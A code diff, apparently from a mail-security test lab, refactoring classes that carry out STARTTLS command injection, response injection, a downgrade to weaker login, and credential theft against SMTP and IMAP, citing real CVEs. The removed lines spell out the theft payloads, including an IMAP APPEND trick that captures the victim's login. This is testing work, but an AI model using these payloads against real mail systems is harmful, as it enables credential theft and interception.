@@ -7,9 +7,10 @@ forget.
 from typing import ClassVar
 
 from labkit.attacks import speech
-from labkit.attacks.account import ADDRESS, NAME, PASSWORD
+from labkit.attacks.account import ACCOUNT, NAME, PASSWORD
 from labkit.attacks.actions import Begin, Replace
 from labkit.attacks.vector import Answered, Line, Opening, Vector
+from labkit.dialects.writing import Capabilities
 
 MARK = "X-MALLORY"
 """A capability that no server has: whoever believes in it has believed the attacker."""
@@ -22,14 +23,14 @@ class CommandInjection(Vector):
     id = "B1"
     source = "CVE-2011-0411 (Postfix), CVE-2024-34083 (aiosmtpd)"
     server: ClassVar = _KEEPS_BUFFER
-    commands: ClassVar = {"SMTP": "VRFY mallory", "IMAP": "NOOP", "POP3": "AUTH X-MALLORY"}
-    """Dialect -> a harmless command whose answer cannot be mistaken for another."""
-    answered: ClassVar = {"SMTP": r"252|502|55[0-3]", "IMAP": r"mallory ", "POP3": r"-ERR"}
+    needs = ("injected",)
+    injects = True
 
     def on_line(self, line: Line) -> Answered:
         if not speech.upgrades(line):
             return None
-        return Replace(line.data + speech.command(line.dialect.name, self.commands[line.dialect.name]))
+        writes = line.dialect.writes
+        return Replace(line.data + writes.command(writes.injected.command, NAME))
 
 
 class ResponseInjection(Vector):
@@ -37,15 +38,18 @@ class ResponseInjection(Vector):
 
     id = "B2"
     source = "CVE-2020-14954 (Mutt), CVE-2021-22947 (curl)"
-    offered: ClassVar = {"SMTP": (MARK,), "IMAP": (MARK,), "POP3": (MARK,)}
-    """Dialect -> what the answer says that the server offers."""
+    needs = ("capabilities",)
     marks = (MARK,)
 
     def on_line(self, line: Line) -> Answered:
         if line.kind != "go-ahead":
             return None
-        name = line.dialect.name
-        return Replace(line.data + speech.told(name, self.offered[name], speech.next_tag(speech.tag(line))))
+        answer = line.dialect.writes.capabilities.answer(self.offered(line), speech.next_tag(line))
+        return Replace(line.data + answer)
+
+    def offered(self, line: Line) -> Capabilities:
+        """What the injected answer offers."""
+        return (MARK,)
 
 
 class StealByInjection(Vector):
@@ -57,7 +61,7 @@ class StealByInjection(Vector):
     """
 
     id = "B3"
-    protocols = ("SMTP", "IMAP")
+    needs = ("steal",)
     source = "Poddebniak et al., USENIX Security 2021, §5"
     server: ClassVar = _KEEPS_BUFFER
 
@@ -65,24 +69,10 @@ class StealByInjection(Vector):
         self.login = login
 
     def on_line(self, line: Line) -> Answered:
-        return Replace(line.data + _STEAL[line.dialect.name](line, self.login)) if speech.upgrades(line) else None
-
-
-def _steal_mail(line: Line, _: int) -> bytes:
-    envelope = f"MAIL FROM:<{ADDRESS}>\r\nRCPT TO:<{ADDRESS}>\r\nDATA\r\n"
-    return b"EHLO mallory.lab.test\r\n" + speech.login("SMTP", NAME, PASSWORD) + envelope.encode()
-
-
-def _steal_upload(line: Line, login: int) -> bytes:
-    first = speech.next_tag(speech.tag(line))
-    second, third = speech.next_tag(first), speech.next_tag(speech.next_tag(first))
-    swallowed = len(f"{first} CAPABILITY\r\n{second} LOGIN ") + login
-    asks = speech.command("IMAP", "CAPABILITY", first)
-    upload = speech.command("IMAP", f"APPEND INBOX {{{swallowed}}}", third)
-    return asks + speech.login("IMAP", NAME, PASSWORD, second) + upload
-
-
-_STEAL = {"SMTP": _steal_mail, "IMAP": _steal_upload}
+        if not speech.upgrades(line):
+            return None
+        writes = line.dialect.writes
+        return Replace(line.data + writes.steal(writes.tag(line.data), ACCOUNT, self.login))
 
 
 class HostHTTPS(Vector):
@@ -102,7 +92,7 @@ class HostHTTPS(Vector):
 
     def on_open(self, opening: Opening) -> Answered:
         commands = ("STARTTLS", f"LOGIN {NAME} {PASSWORD}", "EXAMINE INBOX", "FETCH * BODY[TEXT]")
-        return Begin(b"".join(speech.command("IMAP", text) for text in commands))
+        return Begin(b"".join(opening.dialect.writes.command(text, NAME) for text in commands))
 
 
 class WeakerLogin(ResponseInjection):
@@ -110,4 +100,7 @@ class WeakerLogin(ResponseInjection):
 
     id = "B5"
     source = "GHSA-9j88-vvj5-vhgr (MailKit)"
-    offered: ClassVar = {"SMTP": ("AUTH LOGIN", MARK), "IMAP": ("AUTH=LOGIN", MARK), "POP3": ("USER", MARK)}
+    needs = ("capabilities", "weaker_login")
+
+    def offered(self, line: Line) -> Capabilities:
+        return (*line.dialect.writes.weaker_login, MARK)
